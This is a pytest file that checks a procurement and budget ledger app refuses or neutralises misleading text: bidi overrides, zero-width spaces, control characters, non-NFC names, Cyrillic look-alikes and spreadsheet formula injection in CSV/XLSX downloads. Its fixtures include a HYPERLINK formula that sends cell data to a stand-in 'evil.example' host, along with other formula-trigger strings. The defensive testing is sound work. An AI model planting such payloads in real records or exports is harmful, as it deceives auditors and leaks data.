"""Presentation attacks (issue 10, item 10) on both engines, acting as the attacker would.

A vendor, an officer or a finance clerk signs a statement whose text is built to
mislead a reader: a right-to-left override that reverses a name, a zero-width space
that makes two names look the same, a control character, a name in a non-NFC form, or
a spreadsheet formula as a vendor name that runs when an auditor opens the CSV. Each
refusal is checked through the real sequencer (nothing logged, a stable code), the
dated boundary of the rule through replay, and every CSV/XLSX download through the
app over HTTP.
"""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from conftest import Clock, Harness
from fastapi.testclient import TestClient
from log_checks import replay_matches, row_counts
from log_surgery import append_behind_the_back, stored_entries
from nacl.signing import SigningKey
from procurement_support import LINE, Scenario, fresh_npwp, register_vendor, vendor_body

from audit.remote import verify_log
from audit.verifier import LogFault
from budgeting import reports
from budgeting import statements as st
from ledger.errors import TerangError
from ledger.keys import client_key_id
from ledger.statement import LoggedEntry, b64encode, format_time
from ledger.text import TEXT_RULE_FROM
from terang.app import all_kinds, create_app

AFTER_RULE = datetime.fromisoformat(TEXT_RULE_FROM + "+00:00").replace(hour=1)
BEFORE_RULE = datetime(2026, 3, 2, 1, 0, 0, tzinfo=UTC)
RLO, ZWSP, PDF = "\u202e", "\u200b", "\u202c"
NOT_NFC = unicodedata.normalize("NFD", "CV Karya Ibu Sejahtera Café")  # e + U+0301
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture
def after_rule(harness_factory: Callable[..., Harness]) -> Harness:
    return harness_factory(clock=Clock(AFTER_RULE))


def refused(h: Harness, action: Callable[[], object], code: str) -> TerangError:
    before = row_counts(h)
    with pytest.raises(TerangError) as caught:
        action()
    assert caught.value.code == code, caught.value.message
    assert caught.value.http_status == 422
    assert row_counts(h) == before
    return caught.value


def vendor_statement(h: Harness, name: str) -> Any:
    key = SigningKey.generate()
    body = vendor_body(key, name, fresh_npwp())
    return h.sign(key, "procurement.vendor.registered", client_key_id(key), body)


CASES = [
    # (what, the attacker's text, the code)
    ("a vendor name reversed by U+202E", f"CV Maju {RLO}ayaJ", "text_bidi_control"),
    ("a vendor name with a pop formatting", f"CV Maju{PDF} Jaya", "text_bidi_control"),
    ("a look-alike vendor name with U+200B", f"CV Maju{ZWSP} Jaya", "text_invisible_character"),
    ("a vendor name with a BOM", "\ufeffCV Maju Jaya", "text_invisible_character"),
    ("a vendor name with a line feed", "CV Maju\nJaya", "text_control_character"),
    ("a vendor name with a C1 control", "CV Maju\x85Jaya", "text_control_character"),
    ("a vendor name in NFD", NOT_NFC, "text_not_nfc"),
]


@pytest.mark.parametrize(("what", "name", "code"), CASES, ids=[c[0] for c in CASES])
def test_vendor_names_that_mislead_are_refused(
    after_rule: Harness, what: str, name: str, code: str
) -> None:
    h = after_rule
    error = refused(h, lambda: h.ledger.append_direct([vendor_statement(h, name)]), code)
    assert error.details["field"] == "body.name", what


def test_free_text_key_names_and_budget_names_obey_the_rule(after_rule: Harness) -> None:
    h = after_rule
    # A key registration's name (ledger.authority), signed by the root authority.
    key = SigningKey.generate()
    body = {"public_key": b64encode(bytes(key.verify_key)), "name": f"PPK{ZWSP}", "roles": []}
    registration = h.sign(h.authority, "registry.key.registered", client_key_id(key), body)
    refused(h, lambda: h.ledger.append_direct([registration]), "text_invisible_character")
    # A budget structure name (budgeting), signed by finance, built behind the client's back.
    finance = h.register("bpkad", ["finance"])
    structure = {"kind": "account", "code": "5", "name": f"Belanja {RLO}lanoisivorp"}
    signed = h.sign(finance, st.STRUCTURE, "account:5", structure)
    refused(h, lambda: h.ledger.append_direct([signed]), "text_bidi_control")
    # Procurement free text: a question with a tab, and a non-NFC answer; the title too.
    s = Scenario.build(h, vendors=1)
    s.package()
    s.announce(days=10)
    vendor = s.vendors[0]
    question = s.sign(vendor, "procurement.tender.question_asked", {"question": "RAM\tminimal?"})
    refused(h, lambda: h.ledger.append_direct([question]), "text_control_character")
    s.append(vendor, "procurement.tender.question_asked", {"question": "RAM minimal?"})
    answer = {"question": 1, "answer": unicodedata.normalize("NFD", "Sesuai spesifikasi (é)")}
    signed = s.sign(s.officer, "procurement.tender.question_answered", answer)
    error = refused(h, lambda: h.ledger.append_direct([signed]), "text_not_nfc")
    assert error.details["field"] == "body.answer"
    # A document name deep in a list: the path says where.
    bad_documents = {
        "addendum": 1,
        "description": "Spesifikasi butir 4 diperjelas",
        "documents": [{"name": f"Adendum{ZWSP}", "sha256": "cd" * 32}],
    }
    signed = s.sign(s.officer, "procurement.tender.amended", bad_documents)
    error = refused(h, lambda: h.ledger.append_direct([signed]), "text_invisible_character")
    assert error.details["field"] == "body.documents[0].name"
    # Clean text in the same places is accepted (the rule refuses only what it names).
    register_vendor(h, s.officer, "CV Karya Ibu Sejahtera Café — Jl. Pahlawan № 3")
    replay_matches(h)


def test_the_rule_is_dated_entries_logged_before_it_still_replay(
    harness_factory: Callable[..., Harness],
) -> None:
    h = harness_factory(clock=Clock(BEFORE_RULE))
    # Logged before the rule: accepted then, and it stays replayable now.
    h.ledger.append_direct([vendor_statement(h, f"CV Maju{ZWSP} Jaya")])
    # From the rule's first second on, the same attack is refused.
    h.clock.now = AFTER_RULE.replace(hour=0)
    refused(
        h,
        lambda: h.ledger.append_direct([vendor_statement(h, f"CV Maju{ZWSP} Jaya")]),
        "text_invisible_character",
    )
    replay_matches(h)


def test_the_api_answers_a_refusal_as_problem_json_and_logs_nothing(after_rule: Harness) -> None:
    h = after_rule
    size = h.ledger.size()
    with TestClient(create_app(h.ledger)) as client:
        attack = vendor_statement(h, f"CV Maju {RLO}ayaJ")
        response = client.post("/api/v1/statements", json=attack.to_json())
        assert response.status_code == 422
        assert response.headers["content-type"].startswith("application/problem+json")
        problem = response.json()
        assert problem["code"] == "text_bidi_control"
        details = problem["details"]
        assert (details["field"], details["code_point"], details["position"]) == (
            "body.name",
            "U+202E",
            8,
        )
        assert h.ledger.size() == size
        # The same vendor, its name in NFC and without the override, is logged.
        honest = vendor_statement(h, unicodedata.normalize("NFC", NOT_NFC))
        assert client.post("/api/v1/statements", json=honest.to_json()).status_code == 201
    assert h.ledger.size() == size + 1


def test_an_attack_written_behind_the_services_back_fails_verify(after_rule: Harness) -> None:
    """The operator writes the entry into the database itself, with a checkpoint over it:
    the auditor's replay applies the same rule and names the entry."""
    h = after_rule
    last = stored_entries(h)[-1]
    attack = vendor_statement(h, f"CV Maju{ZWSP} Jaya")
    entry = LoggedEntry(last.seq + 1, format_time(h.clock()), last.leaf_hash(), attack, 2)
    append_behind_the_back(h, entry)
    with TestClient(create_app(h.ledger)) as client, pytest.raises(LogFault) as caught:
        verify_log(client, h.log_signer.verifier_key(), all_kinds(), h.ledger.limits)
    assert caught.value.details["fault"] == "text_invisible_character"
    assert caught.value.details["seq"] == entry.seq


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def _budget_with_a_formula_name(h: Harness, finance: SigningKey) -> None:
    """The test line's structure, its funding source named like a formula; then a decrease."""
    codes = LINE.split(":")
    posts = [
        st.structure("fiscal_year", "2026", "TA 2026"),
        *(st.structure("programme", c, f"Program {c}") for c in ("1", "1.02", "1.02.02")),
        *(st.structure("programme", c, f"Kegiatan {c}") for c in (codes[2][:12], codes[2])),
        st.structure("opd", codes[1], "Dinas Kesehatan"),
        *(
            st.structure("account", c, f"Akun {c}")
            for c in ("5", "5.1", "5.1.02", "5.1.02.01", "5.1.02.01.01", codes[3])
        ),
        st.structure("funding_source", "DAU", "-2+3 Dana Alokasi Umum"),
        st.appropriation(LINE, "DPA-2026-0001", 100_000_000_000),
        # A decrease: a negative amount, which is a number and must stay one.
        st.revision(LINE, "REV-2026-0001", -1_000_000_000),
    ]
    h.ledger.append_direct([p.sign(finance, at=h.clock(), origin=h.ledger.origin) for p in posts])


def test_every_download_neutralises_formula_cells(after_rule: Harness) -> None:
    h = after_rule
    officer = h.register("ppk", ["procurement_officer"])
    _budget_with_a_formula_name(h, h.register("bpkad", ["finance"]))
    register_vendor(h, officer, FORMULA)
    register_vendor(h, officer, "+62 812 0000 0000 CV Telepon")
    package = {
        "title": "@SUM(A1:A9) pengadaan",
        "budget_line": LINE,
        "category": "goods",
        "hps": "500000000.00",
        "method": "tender",
    }
    ocid = "ocds-t3r4ng-2026-0009"
    h.ledger.append_direct([h.sign(officer, "procurement.package.created", ocid, package)])
    with TestClient(create_app(h.ledger)) as client:
        vendors = client.get("/penyedia.csv")
        assert vendors.status_code == 200
        names = {row["name"] for row in _csv_rows(vendors.content)}
        assert "'" + FORMULA in names and FORMULA not in names
        assert "'+62 812 0000 0000 CV Telepon" in names

        tenders = _csv_rows(client.get("/tender.csv").content)
        assert [row["title"] for row in tenders] == ["'@SUM(A1:A9) pengadaan"]
        assert [row["hps"] for row in tenders] == ["500000000.00"]
        workbook = reports.read_xlsx_bytes(client.get("/tender.xlsx").content, "tenders")
        assert workbook["title"].tolist() == ["'@SUM(A1:A9) pengadaan"]

        for fmt in ("csv", "xlsx"):
            response = client.get(f"/api/v1/budget/reports/lra?year=2026&by=account&format={fmt}")
            assert response.status_code == 200, response.text
            if fmt == "csv":
                table = reports.read_csv_bytes(response.content)
            else:
                table = reports.read_xlsx_bytes(response.content, "lra")
            # Numbers untouched: the decrease stays a negative decimal, no quote.
            assert "-10000000.00" in table["revised"].tolist(), table.to_dict()
            assert not any(v.startswith("'") for v in table["revised"].tolist())
        ofdp = client.get("/api/v1/budget/reports/lra?year=2026&format=ofdp")
        with zipfile.ZipFile(io.BytesIO(ofdp.content)) as archive:
            lines = _csv_rows(archive.read("lines.csv"))
        assert [row["funding_source_name"] for row in lines] == ["'-2+3 Dana Alokasi Umum"]
        assert [row["revised"] for row in lines] == ["-10000000.00"]
        # The JSON API carries the exact signed text, unchanged.
        found = client.get("/api/v1/procurement/vendors", params={"limit": 10}).json()
        assert FORMULA in {v["name"] for v in found["items"]}


def test_the_portal_warns_where_scripts_mix_in_one_word(after_rule: Harness) -> None:
    h = after_rule
    officer = h.register("ppk", ["procurement_officer"])
    _budget_with_a_formula_name(h, h.register("bpkad", ["finance"]))
    look_alike = "PT Sinar \u0422erang Abadi"  # a Cyrillic TE: passes the text rule
    fake = register_vendor(h, officer, look_alike)
    real = register_vendor(h, officer, "PT Sinar Terang Abadi")
    ocid = "ocds-t3r4ng-2026-0010"
    package = {
        "title": "Pengadaan l\u0430ptop sekolah",  # Cyrillic a
        "budget_line": LINE,
        "category": "goods",
        "hps": "500000000.00",
        "method": "tender",
    }
    h.ledger.append_direct([h.sign(officer, "procurement.package.created", ocid, package)])
    with TestClient(create_app(h.ledger)) as client:
        listing = client.get("/penyedia").text
        assert listing.count('class="script-warning"') == 1
        assert "Cyrillic + Latin" in client.get("/penyedia?lang=en").text
        fake_page = client.get(f"/penyedia/{client_key_id(fake)}").text
        assert 'class="script-warning"' in fake_page and "Cyrillic + Latin" in fake_page
        assert 'class="script-warning"' not in client.get(f"/penyedia/{client_key_id(real)}").text
        tender_page = client.get(f"/tender/{ocid}").text
        assert 'class="script-warning"' in tender_page
        assert 'class="script-warning"' in client.get("/tender").text
        # Not a demo tender: no demo note (the demo's own pages carry it).
        assert 'id="demo-note"' not in tender_page
